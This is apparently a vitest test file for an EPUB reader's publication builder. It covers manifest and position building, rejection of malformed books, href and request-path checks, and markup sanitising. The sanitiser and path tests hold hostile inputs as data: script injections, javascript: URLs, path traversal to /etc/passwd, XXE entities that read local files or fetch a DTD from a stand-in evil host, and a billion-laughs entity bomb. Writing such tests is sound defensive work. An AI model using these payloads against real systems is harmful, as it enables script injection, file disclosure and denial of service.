import { strToU8, unzipSync, zipSync, type Zippable } from "fflate";
import { describe, expect, it } from "vitest";
import { seedBooks } from "../../../seed/catalogue-data";
import { seedEdition } from "../../../seed/editions";
import { buildEpub } from "../epub";
import { EpubRejected } from "../epub-archive";
import { buildPublication } from "./build";
import { cleanMarkup } from "./clean-markup";
import { resolveHref, requestedEntry } from "./paths";
import { readPublicationFile, buildPublicationFile } from "./stored";

const CONTAINER = `<?xml version="1.0"?>
<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container">
<rootfiles><rootfile full-path="OPS/package.opf" media-type="application/oebps-package+xml"/></rootfiles>
</container>`;

/** An EPUB of the files given, its mimetype first and its container pointing at OPS/package.opf. */
function epubOf(files: Record<string, string>, container = CONTAINER): Uint8Array {
  const zippable: Zippable = {
    mimetype: [strToU8("application/epub+zip"), { level: 0 }],
    "META-INF/container.xml": strToU8(container),
  };
  for (const [name, text] of Object.entries(files)) zippable[name] = strToU8(text);
  return zipSync(zippable);
}

const chapter = (title: string, words = 10) =>
  `<?xml version="1.0" encoding="UTF-8"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>${title}</title></head><body><p>${"word ".repeat(words)}</p></body></html>`;

/** An EPUB 2 book: an NCX with nested points, files in folders, right to left, one fixed page. */
const epub2Opf = (spine: string, extraMeta = "") => `<?xml version="1.0" encoding="UTF-8"?>
<opf:package xmlns:opf="http://www.idpf.org/2007/opf" xmlns:dc="http://purl.org/dc/elements/1.1/" version="2.0" unique-identifier="uid">
<opf:metadata>
  <dc:title>Ein Buch &amp; mehr</dc:title>
  <dc:creator opf:role="aut">Anna Autorin</dc:creator>
  <dc:creator opf:role="ill">Ida Illustrator</dc:creator>
  <dc:creator>Bert Zweiter</dc:creator>
  <dc:identifier id="other">isbn:0</dc:identifier>
  <dc:identifier id="uid">urn:uuid:1234</dc:identifier>
  <dc:language>de</dc:language>
  <dc:date opf:event="modification">2020-05-06</dc:date>
  <opf:meta name="cover" content="pic"/>
  ${extraMeta}
</opf:metadata>
<opf:manifest>
  <opf:item id="ncx" href="toc.ncx" media-type="application/x-dtbncx+xml"/>
  <opf:item id="one" href="Text/Chapter%20One.xhtml" media-type="application/xhtml+xml"/>
  <opf:item id="two" href="Text/two.xhtml" media-type="application/xhtml+xml"/>
  <opf:item id="notes" href="Text/notes.xhtml" media-type="application/xhtml+xml"/>
  <opf:item id="three" href="Text/three.xhtml" media-type="application/xhtml+xml"/>
  <opf:item id="pic" href="../Images/cover.png" media-type="image/png"/>
  <opf:item id="gone" href="Text/missing.css" media-type="text/css"/>
  <opf:item id="remote" href="https://example.com/font.woff" media-type="font/woff"/>
</opf:manifest>
${spine}
</opf:package>`;

const epub2Files = (opf: string) => ({
  "OPS/package.opf": opf,
  "OPS/toc.ncx": `<?xml version="1.0"?>
<ncx xmlns="http://www.daisy.org/z3986/2005/ncx/" version="2005-1"><navMap>
  <navPoint id="a"><navLabel><text>Part One</text></navLabel><content src="Text/Chapter%20One.xhtml"/>
    <navPoint id="b"><navLabel><text>The Second</text></navLabel><content src="Text/two.xhtml#start"/></navPoint>
  </navPoint>
  <navPoint id="c"><navLabel><text>Away</text></navLabel><content src="../../outside.xhtml"/></navPoint>
</navMap></ncx>`,
  "OPS/Text/Chapter One.xhtml": chapter("One", 500),
  "OPS/Text/two.xhtml": chapter("Two", 5),
  "OPS/Text/notes.xhtml": chapter("Notes"),
  "OPS/Text/three.xhtml": chapter("Three"),
  "Images/cover.png": "not really a png",
});

const defaultSpine = `<opf:spine toc="ncx" page-progression-direction="rtl">
  <opf:itemref idref="one"/><opf:itemref idref="notes" linear="no"/><opf:itemref idref="two"/>
  <opf:itemref idref="three"/>
</opf:spine>`;

describe("building a publication from an EPUB", () => {
  it("makes Moby-Dick's manifest: its chapters in reading order, a toc, the cover", () => {
    const moby = seedBooks.find((b) => b.title === "Moby-Dick")!;
    const epub = buildEpub(seedEdition(moby, 42));
    const { manifest, positions } = buildPublication(epub);
    expect(manifest["@context"]).toBe("https://readium.org/webpub-manifest/context.jsonld");
    expect(manifest.metadata).toMatchObject({
      "@type": "http://schema.org/Book",
      conformsTo: "https://readium.org/webpub-manifest/profiles/epub",
      title: "Moby-Dick",
      author: "Herman Melville",
      language: "en",
      identifier: "urn:folio:book:42",
      modified: "2026-01-01T00:00:00.000Z",
      layout: "reflowable",
    });
    expect(manifest.links).toEqual([
      { rel: "self", href: "manifest.json", type: "application/webpub+json" },
      { href: "positions.json", type: "application/vnd.readium.position-list+json" },
    ]);
    const chapters = manifest.readingOrder.map((l) => l.href);
    expect(chapters[0]).toBe("OEBPS/title.xhtml");
    expect(chapters.slice(1)).toEqual(
      chapters.slice(1).map((_, i) => `OEBPS/chapter-${String(i + 1).padStart(3, "0")}.xhtml`),
    );
    expect(chapters.length).toBeGreaterThan(130);
    expect(manifest.readingOrder.every((l) => l.type === "application/xhtml+xml")).toBe(true);
    // The non-linear cover page is a resource, not part of the reading order.
    expect(chapters).not.toContain("OEBPS/cover.xhtml");
    expect(manifest.resources).toContainEqual({
      href: "OEBPS/cover.xhtml",
      type: "application/xhtml+xml",
    });
    expect(manifest.resources).toContainEqual({
      href: "OEBPS/cover.svg",
      type: "image/svg+xml",
      rel: "cover",
    });
    expect(manifest.resources).toContainEqual({
      href: "OEBPS/nav.xhtml",
      type: "application/xhtml+xml",
      rel: "contents",
    });
    expect(manifest.toc.length).toBe(chapters.length);
    expect(manifest.toc.find((l) => l.title === "Chapter 1. Loomings.")?.href).toMatch(
      /^OEBPS\/chapter-\d{3}\.xhtml$/,
    );

    // Readium's reflowable positions: one per 1,024 bytes of each chapter, unpacked.
    const files = unzipSync(epub);
    const expected = chapters.map((href) => Math.max(1, Math.ceil(files[href]!.length / 1024)));
    expect(positions.total).toBe(expected.reduce((a, b) => a + b, 0));
    expect(positions.positions.length).toBe(positions.total);
    positions.positions.forEach((locator, i) => {
      expect(locator.locations.position).toBe(i + 1);
      expect(locator.locations.totalProgression).toBeCloseTo(i / positions.total, 12);
      expect(locator.locations.progression).toBeGreaterThanOrEqual(0);
      expect(locator.locations.progression).toBeLessThan(1);
      expect(locator.type).toBe("application/xhtml+xml");
      expect(locator.title).toBeTruthy();
    });
    const firstOfChapterOne = positions.positions.find((p) => p.title === "Chapter 1. Loomings.")!;
    expect(firstOfChapterOne.locations.progression).toBe(0);
    const inOne = positions.positions.filter((p) => p.href === firstOfChapterOne.href);
    expect(inOne.length).toBe(Math.ceil(files[firstOfChapterOne.href]!.length / 1024));
    expect(inOne[1]?.locations.progression).toBeCloseTo(1 / inOne.length, 12);
  });

  it("reads an EPUB 2 book: NCX toc nested, hrefs encoded and resolved, right to left", () => {
    const { manifest, positions } = buildPublication(epubOf(epub2Files(epub2Opf(defaultSpine))));
    expect(manifest.metadata).toMatchObject({
      title: "Ein Buch & mehr",
      author: ["Anna Autorin", "Bert Zweiter"],
      language: "de",
      identifier: "urn:uuid:1234",
      modified: "2020-05-06T00:00:00.000Z",
      layout: "reflowable",
      readingProgression: "rtl",
    });
    expect(manifest.readingOrder).toEqual([
      { href: "OPS/Text/Chapter%20One.xhtml", type: "application/xhtml+xml", title: "Part One" },
      { href: "OPS/Text/two.xhtml", type: "application/xhtml+xml", title: "The Second" },
      { href: "OPS/Text/three.xhtml", type: "application/xhtml+xml" },
    ]);
    // A missing file and a remote one are left out; the cover climbed out of OPS/ and is found.
    expect(manifest.resources).toEqual([
      { href: "OPS/toc.ncx", type: "application/x-dtbncx+xml" },
      { href: "OPS/Text/notes.xhtml", type: "application/xhtml+xml" },
      { href: "Images/cover.png", type: "image/png", rel: "cover" },
    ]);
    expect(manifest.toc).toEqual([
      {
        href: "OPS/Text/Chapter%20One.xhtml",
        title: "Part One",
        children: [{ href: "OPS/Text/two.xhtml#start", title: "The Second" }],
      },
    ]);
    // 500 words of 5 bytes: 3 positions; a short chapter 1. A chapter the toc does not name
    // takes the title of the entry covering it, the last one before it.
    expect(positions.total).toBe(5);
    expect(positions.positions.map((p) => [p.href, p.title, p.locations.position])).toEqual([
      ["OPS/Text/Chapter%20One.xhtml", "Part One", 1],
      ["OPS/Text/Chapter%20One.xhtml", "Part One", 2],
      ["OPS/Text/Chapter%20One.xhtml", "Part One", 3],
      ["OPS/Text/two.xhtml", "The Second", 4],
      ["OPS/Text/three.xhtml", "The Second", 5],
    ]);
    expect(positions.positions.map((p) => p.locations.progression)).toEqual([
      0,
      1 / 3,
      2 / 3,
      0,
      0,
    ]);
    expect(positions.positions.map((p) => p.locations.totalProgression)).toEqual([
      0, 0.2, 0.4, 0.6, 0.8,
    ]);
  });

  it("gives a fixed-layout book one position a page", () => {
    const { manifest, positions } = buildPublication(
      epubOf(
        epub2Files(
          epub2Opf(
            defaultSpine.replace('page-progression-direction="rtl"', ""),
            '<opf:meta property="rendition:layout">pre-paginated</opf:meta>',
          ),
        ),
      ),
    );
    expect(manifest.metadata.layout).toBe("fixed");
    expect(manifest.metadata.readingProgression).toBeUndefined();
    expect(positions.total).toBe(3);
    expect(positions.positions.map((p) => p.locations.progression)).toEqual([0, 0, 0]);
  });

  it("reads an EPUB 3 nav with headings and nested lists", () => {
    const opf = `<?xml version="1.0"?>
<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="id">
<metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Nav Book</dc:title><dc:identifier id="id">x</dc:identifier>
<dc:creator id="c1">Main Writer</dc:creator><meta refines="#c1" property="role">aut</meta>
<dc:creator id="c2">Some Editor</dc:creator><meta refines="#c2" property="role">edt</meta></metadata>
<manifest><item id="nav" href="nav.xhtml" media-type="application/xhtml+xml" properties="nav"/>
<item id="a" href="a.xhtml" media-type="application/xhtml+xml"/><item id="b" href="b.xhtml" media-type="application/xhtml+xml"/></manifest>
<spine><itemref idref="a"/><itemref idref="b"/></spine></package>`;
    const nav = `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops"><body>
<nav epub:type="landmarks"><ol><li><a href="b.xhtml">Not the toc</a></li></ol></nav>
<nav epub:type="toc"><h1>Contents</h1><ol>
<li><span>Part&#160;I</span><ol><li><a href="a.xhtml">  First
  chapter </a></li><li><a href="b.xhtml#s2">Second</a></li></ol></li>
<li><a href="http://example.com/">Elsewhere</a></li>
</ol></nav></body></html>`;
    const { manifest } = buildPublication(
      epubOf({
        "OPS/package.opf": opf,
        "OPS/nav.xhtml": nav,
        "OPS/a.xhtml": chapter("A"),
        "OPS/b.xhtml": chapter("B"),
      }),
    );
    expect(manifest.metadata.author).toBe("Main Writer");
    expect(manifest.toc).toEqual([
      {
        href: "OPS/a.xhtml",
        title: "Part I",
        children: [
          { href: "OPS/a.xhtml", title: "First chapter" },
          { href: "OPS/b.xhtml#s2", title: "Second" },
        ],
      },
    ]);
  });

  const withOpf = (opf: string) => epubOf({ ...epub2Files(opf), "OPS/package.opf": opf });
  it.each([
    [
      "no container",
      zipSync({ mimetype: strToU8("application/epub+zip"), "OPS/package.opf": strToU8("<x/>") }),
      "no META-INF/container.xml",
    ],
    ["no package document", epubOf({}), "no package document"],
    ["an unparseable package document", withOpf("this is { not xml"), "cannot be read"],
    [
      "an empty spine",
      withOpf(epub2Opf("<opf:spine toc='ncx'></opf:spine>")),
      "the book has no reading order",
    ],
    [
      "only non-linear spine items",
      withOpf(epub2Opf("<opf:spine><opf:itemref idref='one' linear='no'/></opf:spine>")),
      "the book has no reading order",
    ],
    ["no spine at all", withOpf(epub2Opf("")), "the book has no reading order"],
    [
      "a spine item missing from the zip",
      withOpf(epub2Opf("<opf:spine><opf:itemref idref='gone'/></opf:spine>")),
      'its reading order names "OPS/Text/missing.css", which is not in the file',
    ],
    [
      "a spine item the manifest does not list",
      withOpf(epub2Opf("<opf:spine><opf:itemref idref='nope'/></opf:spine>")),
      'its reading order names "nope", which the package does not list',
    ],
    [
      "no title",
      withOpf(epub2Opf(defaultSpine).replace("<dc:title>Ein Buch &amp; mehr</dc:title>", "")),
      "no title in the package metadata",
    ],
  ])("refuses a book with %s, saying why", (_, epub, reason) => {
    expect(() => buildPublication(epub)).toThrow(EpubRejected);
    expect(() => buildPublication(epub)).toThrow(reason);
  });

  it("refuses what is no zip at all", () => {
    expect(() => buildPublication(strToU8("hello"))).toThrow("it is not a zip file");
  });

  it("stores as one JSON file that reads back, and refuses another format", () => {
    const epub = epubOf(epub2Files(epub2Opf(defaultSpine)));
    const file = buildPublicationFile(epub);
    expect(readPublicationFile(file)).toEqual(buildPublication(epub));
    expect(readPublicationFile(strToU8('{"format":0,"manifest":{},"positions":{}}'))).toBeNull();
    expect(readPublicationFile(strToU8("not json"))).toBeNull();
  });
});

describe("hrefs and request paths", () => {
  it("resolves hrefs inside the book and refuses those that leave it", () => {
    expect(resolveHref("OPS/package.opf", "Text/a%20b.xhtml#x")).toEqual({
      path: "OPS/Text/a b.xhtml",
      fragment: "x",
    });
    expect(resolveHref("OPS/Text/a.xhtml", "../Images/c.png")).toEqual({
      path: "OPS/Images/c.png",
      fragment: null,
    });
    expect(resolveHref("OPS/a.xhtml", "#note")).toEqual({ path: "OPS/a.xhtml", fragment: "note" });
    expect(resolveHref("OPS/a.xhtml", "../../x.xhtml")).toBeNull();
    expect(resolveHref("OPS/a.xhtml", "https://example.com/x")).toBeNull();
    expect(resolveHref("OPS/a.xhtml", "javascript:alert(1)")).toBeNull();
    expect(resolveHref("OPS/a.xhtml", "%E0%A4%A")).toBeNull();
  });

  it("takes only plain relative paths as a request", () => {
    expect(requestedEntry("OPS/Text/a b.xhtml")).toBe("OPS/Text/a b.xhtml");
    for (const bad of [
      "",
      "../x",
      "OPS/../../x",
      "OPS/./a",
      "/etc/passwd",
      "OPS//a",
      "OPS\\..\\x",
      "C:/x",
      "a\u0000b",
    ])
      expect(requestedEntry(bad), bad).toBeNull();
  });
});

describe("cleaning a book's markup", () => {
  const clean = (text: string, type = "application/xhtml+xml") =>
    new TextDecoder().decode(cleanMarkup(strToU8(text), type));

  it("removes scripts, handlers, javascript: URLs, frames and refreshes, and keeps XHTML XML", () => {
    const out = clean(`<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE html>
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink"><head><title>T &amp; S</title>
<script>alert(1)</script><script src="evil.js"/><meta http-equiv="Refresh" content="0;url=x"/><base href="http://evil/"/>
<link rel="stylesheet" href="style.css"/></head>
<body onload="alert(2)" ONCLICK="alert(3)"><p title='say "hi"'>Hello&nbsp;world &#x263A; <a href="jav&#x61;script:alert(4)">x</a> <a href=" JAVASCRIPT:alert(5)">y</a> <a href="b.xhtml#n">ok</a></p>
<form action="javascript:alert(6)"><button formaction="javascript:alert(7)">b</button></form>
<svg xmlns="http://www.w3.org/2000/svg"><svg:script>bad()</svg:script><a xlink:href="javascript:alert(8)"><circle r="1" onclick="x()"/></a><set attributeName="href" to="javascript:alert(9)"/><image xlink:href="cover.jpg"/></svg>
<iframe src="x"></iframe><object data="x"/><embed src="x"/><img src="data:image/png;base64,AAA" alt=""/><p></p>
</body></html>`);
    expect(out).not.toMatch(
      /<script|<svg:script|alert|onload|onclick|javascript|<iframe|<object|<embed|<base|Refresh|<set/i,
    );
    expect(out.startsWith('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE html>')).toBe(true);
    expect(out).toContain('<p title="say &quot;hi&quot;">Hello&#160;world &#x263A; <a>x</a>');
    expect(out).toContain('<a href="b.xhtml#n">ok</a>');
    expect(out).toContain('<link rel="stylesheet" href="style.css"/>');
    expect(out).toContain('<image xlink:href="cover.jpg"/>');
    expect(out).toContain('<img src="data:image/png;base64,AAA" alt=""/>');
  });

  it("cleans HTML as HTML and SVG as XML", () => {
    expect(
      clean(`<!doctype html><p onmouseover=x()>a<br><SCRIPT>b()</SCRIPT></p>`, "text/html"),
    ).toBe("<!doctype html><p>a<br></p>");
    expect(
      clean(
        `<svg xmlns="http://www.w3.org/2000/svg" onload="x()"><script>y()</script><rect width="1"/></svg>`,
        "image/svg+xml",
      ),
    ).toBe('<svg xmlns="http://www.w3.org/2000/svg"><rect width="1"/></svg>');
  });

  /** Every `&` left must start a reference no document can redefine. */
  const onlyFixedReferences = (out: string) =>
    expect(out.match(/&(?!(?:amp|lt|gt|quot|apos|#\d+|#x[\da-fA-F]+);)[^\s]{0,12}/g)).toBeNull();

  it("drops a DOCTYPE's internal subset and every entity it declared, so none smuggles script", () => {
    const out = clean(`<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE html [
  <!ENTITY x "&#60;script&#62;alert(1)&#60;/script&#62;">
  <!ENTITY y "<script>alert(2)</script>">
  <!ATTLIST p onclick CDATA "alert(3)">
  <!-- a comment's ]> does not end the subset -->
  <!ENTITY z ']>&lt;script&gt;alert(4)&lt;/script&gt;'>
  <!ENTITY js "javascript:">
]>
<html xmlns="http://www.w3.org/1999/xhtml"><head><style>p::after { content: "&x;" }</style></head>
<body><p>a&x;b&y;c&z;d</p><a href="&js;alert(5)" title="&x;">l</a></body></html>`);
    expect(out).toBe(`<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE html>
<html xmlns="http://www.w3.org/1999/xhtml"><head><style>p::after { content: "" }</style></head>
<body><p>abcd</p><a href="alert(5)" title="">l</a></body></html>`);
    expect(out).not.toMatch(/script|alert\([1-4]\)|javascript|ENTITY|ATTLIST|onclick/i);
    onlyFixedReferences(out);
  });

  it("drops external entities and DTDs: SYSTEM and PUBLIC identifiers, parameter entities", () => {
    const out = clean(`<?xml version="1.0"?>
<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.1//EN" "http://www.w3.org/TR/xhtml11/DTD/xhtml11.dtd" [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
  <!ENTITY % remote SYSTEM "http://evil.example/x.dtd">
  %remote;
]>
<html xmlns="http://www.w3.org/1999/xhtml"><body><p>[&xxe;]</p></body></html>`);
    expect(out).toBe(`<?xml version="1.0"?>
<!DOCTYPE html>
<html xmlns="http://www.w3.org/1999/xhtml"><body><p>[]</p></body></html>`);

    const svg = clean(
      `<?xml version="1.0"?><!DOCTYPE svg SYSTEM "http://evil.example/svg.dtd"><svg xmlns="http://www.w3.org/2000/svg"><text>&evil;</text></svg>`,
      "image/svg+xml",
    );
    expect(svg).toBe(
      '<?xml version="1.0"?><!DOCTYPE svg><svg xmlns="http://www.w3.org/2000/svg"><text></text></svg>',
    );
    // A declaration out of place (only a prolog may hold one) goes too.
    const stray = clean(
      `<svg xmlns="http://www.w3.org/2000/svg"><!ENTITY q "x"/><g/></svg>`,
      "image/svg+xml",
    );
    expect(stray).not.toContain("ENTITY");
  });

  it("survives nested entities (a billion laughs) without expanding them", () => {
    const levels = Array.from({ length: 10 }, (_, i) =>
      i === 0 ? '<!ENTITY lol0 "lol">' : `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`,
    );
    const body = "<p>&lol9;</p>".repeat(100);
    const text = `<?xml version="1.0"?>
<!DOCTYPE lolz [${levels.join("\n")}]>
<lolz>${body}</lolz>`;
    const out = clean(text, "application/xml");
    expect(out).toBe(`<?xml version="1.0"?>
<!DOCTYPE lolz>
<lolz>${"<p></p>".repeat(100)}</lolz>`);
  });

  it("keeps XML's own entities and numeric references, and writes HTML's named ones as numbers", () => {
    const out = clean(`<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.1//EN" "http://www.w3.org/TR/xhtml11/DTD/xhtml11.dtd">
<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Q &amp; A</title></head>
<body><p title="&lt;b&gt; &amp;&nbsp;&quot;">Fish &amp; chips &lt;hot&gt; &quot;now&quot; &apos;s&apos;
&#160;&#xA0;&nbsp;&mdash;&copy;&AMP;&NotEqualTilde; AT&T &unknown; <![CDATA[&nbsp; stays]]></p></body></html>`);
    expect(out).toBe(`<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE html>
<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Q &amp; A</title></head>
<body><p title="&lt;b&gt; &amp;&#160;&quot;">Fish &amp; chips &lt;hot&gt; &quot;now&quot; &apos;s&apos;
&#160;&#xA0;&#160;&#8212;&#169;&#38;&#8770;&#824; AT&amp;T  <![CDATA[&nbsp; stays]]></p></body></html>`);
    onlyFixedReferences(out.replace(/<!\[CDATA\[[\s\S]*?\]\]>/g, ""));
    // HTML is read as HTML: its entities are the browser's own and stay as written.
    expect(clean(`<!DOCTYPE html><p>a&nbsp;b &amp; c</p>`, "text/html")).toBe(
      "<!DOCTYPE html><p>a&nbsp;b &amp; c</p>",
    );
  });

  it("drops an XSLT stylesheet instruction (XSLT can write script) and keeps a CSS one", () => {
    const out = clean(`<?xml version="1.0"?>
<?xml-stylesheet type="text/xsl" href="evil.xsl"?>
<?xml-stylesheet href="style.css" type="text/css"?>
<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>`);
    expect(out).not.toContain("evil.xsl");
    expect(out).toContain('<?xml-stylesheet href="style.css" type="text/css"?>');
  });
});
